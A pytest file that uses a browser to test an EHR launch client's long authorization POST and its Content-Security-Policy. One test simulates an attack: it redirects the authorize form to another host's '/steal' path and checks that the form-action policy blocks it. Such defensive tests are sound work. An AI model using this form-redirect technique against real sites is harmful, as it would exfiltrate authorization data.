"""The page that posts a long request, in a real browser: through the policy, to the EHR and back."""

import threading
from collections.abc import Iterator
from urllib.parse import urlencode

import pytest
from playwright.sync_api import expect
from werkzeug.serving import make_server

from launch.authorization import LONGEST_ADDRESS
from tests.launch.canned_ehr import Answer, CannedEhr, Seen
from tests.launch.launching import LaunchedApp, make_app
from tests.plugins.browser import OpenBrowser


@pytest.fixture
def site() -> Iterator[LaunchedApp]:
    """The launch client on a free port of localhost: another site than the EHR's 127.0.0.1."""
    server = make_server("localhost", 0, lambda environ, respond: launched.app(environ, respond), threaded=True)
    launched = make_app(base_url=f"http://localhost:{server.server_port}")
    thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    yield launched
    server.shutdown()
    thread.join()
    server.server_close()


def answers_posts(ehr: CannedEhr) -> None:
    """The EHR's authorize endpoint: takes the form, and sends the browser back."""
    ehr.configuration["capabilities"] = ["launch-ehr", "authorize-post"]

    def authorize(seen: Seen) -> Answer:
        assert seen.method == "POST"
        reply = urlencode(ehr.authorize(f"{ehr.origin}/authorize?{urlencode(seen.form)}"))
        return Answer({}, 303, {"Location": f"{seen.form['redirect_uri']}?{reply}"})

    ehr.answers["/authorize"] = authorize


@pytest.mark.parametrize("scripts", [True, False])
def test_a_long_request_goes_to_the_ehr_and_comes_back(
    site: LaunchedApp, ehr: CannedEhr, open_browser: OpenBrowser, scripts: bool
) -> None:
    """By itself; and without JavaScript by two presses of Continue."""
    site.register(ehr)
    answers_posts(ehr)
    page = open_browser(scripts=scripts).context.pages[0]
    query = urlencode({"iss": ehr.base, "launch": "t" * (LONGEST_ADDRESS + 1)})
    page.goto(f"{site.extension.client.base_url}/launch?{query}")
    if not scripts:
        page.get_by_role("button", name="Continue").click()
        page.get_by_role("button", name="Continue").click()
    expect(page.locator("body")).to_have_text("welcome")
    posted = ehr.last("/authorize")
    assert posted.query == ""
    assert "Referer" not in posted.headers


def test_the_policy_lets_the_form_go_nowhere_else(
    site: LaunchedApp, ehr: CannedEhr, other_host: CannedEhr, open_browser: OpenBrowser
) -> None:
    """A form that a page of ours were made to post elsewhere does not leave."""
    site.register(ehr)
    answers_posts(ehr)
    page = open_browser(scripts=True).context.pages[0]
    page.route("**/authorize.js", lambda route: route.fulfill(body="", content_type="text/javascript"))
    query = urlencode({"iss": ehr.base, "launch": "t" * (LONGEST_ADDRESS + 1)})
    page.goto(f"{site.extension.client.base_url}/launch?{query}")
    refused = page.evaluate(
        """where => new Promise(done => {
            document.addEventListener("securitypolicyviolation", event => done(event.violatedDirective));
            const form = document.getElementById("authorize");
            form.action = where; form.submit();
            setTimeout(() => done("it went"), 3000);
        })""",
        f"{other_host.origin}/steal",
    )
    assert refused == "form-action"
    assert other_host.seen == []
